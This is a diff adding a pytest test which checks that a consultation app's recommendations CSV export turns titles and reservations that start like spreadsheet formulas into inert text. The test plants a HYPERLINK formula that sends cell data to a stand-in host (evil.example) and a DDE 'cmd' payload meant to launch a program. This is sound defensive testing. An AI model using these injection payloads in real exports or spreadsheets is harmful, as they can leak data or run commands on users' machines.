@@ -2,6 +2,7 @@
 freezes, and the forms for the written parts, breakout summaries, translations and consent to
 be named."""
 
+import csv
 import io
 import json
 
@@ -11,7 +12,7 @@ from sqlalchemy import select
 
 from consultations.models import ApprovalRule, AttributionRule, ConsultationStatus
 from recommendations import translating
-from recommendations.models import TranslationStatus, VersionTranslation
+from recommendations.models import TranslationStatus, VersionTranslation, Vote
 from recommendations.outcome import operations
 from recommendations.outcome.models import (
     BreakoutSummary,
@@ -78,6 +79,33 @@ def test_the_secretariat_sees_what_is_missing_compiles_and_downloads(app, made, 
     preview = page(client, f"/c/{slug}/outcome/preview?locale=en")
     assert "A regional network of focal points" in preview
     assert 'src="data:image/png;base64,' in preview
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_recommendations_export_shows_titles_and_reservations_like_formulas_as_text(
+    app, made, session, start
+):
+    safe_landing = made.recommendations["R2"]
+    # Set past the forms, which strip leading spaces: the export trusts no stored text.
+    safe_landing.title = f'{start}HYPERLINK("http://evil.example/?x="&A1,"x")'
+    vote = session.scalars(select(Vote).where(Vote.reservation.is_not(None))).one()
+    vote.reservation = f"{start}cmd|' /C calc'!A0"
+    document = operations.compile_outcome(made.consultation, "en", made.users["secretariat"])
+    session.flush()
+    client = signed_in(app, made, "secretariat")
+
+    response = client.get(f"/c/{made.consultation.slug}/outcome/versions/{document.id}"
+                          "/recommendations.csv")
+
+    assert response.mimetype == "text/csv"
+    text = response.get_data(as_text=True)
+    assert text.startswith("\ufeffreference,")
+    rows = {row["reference"]: row for row in csv.DictReader(io.StringIO(text[1:]))}
+    assert rows["R2"]["title"] == f'\'{start}HYPERLINK("http://evil.example/?x="&A1,"x")'
+    assert rows["R2"]["reservations"] == (
+        f"'{start}cmd|' /C calc'!A0 (Aminata Delegate (Senegalese Red Cross Society))")
+    assert rows["R2"]["support"] == "4"
+    assert rows["R1"]["title"] == "A regional network of focal points"
 
 
 @pytest.mark.parametrize("who", ["p1", "rapporteur", "outsider"])
